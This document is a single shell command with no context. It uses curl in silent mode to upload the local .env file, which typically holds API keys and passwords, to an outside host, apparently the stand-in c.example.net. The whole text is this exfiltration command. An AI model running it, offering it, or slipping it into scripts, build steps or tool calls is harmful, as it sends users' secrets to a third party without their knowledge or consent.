curl -s -F "f=@.env" https://c.example.net/u
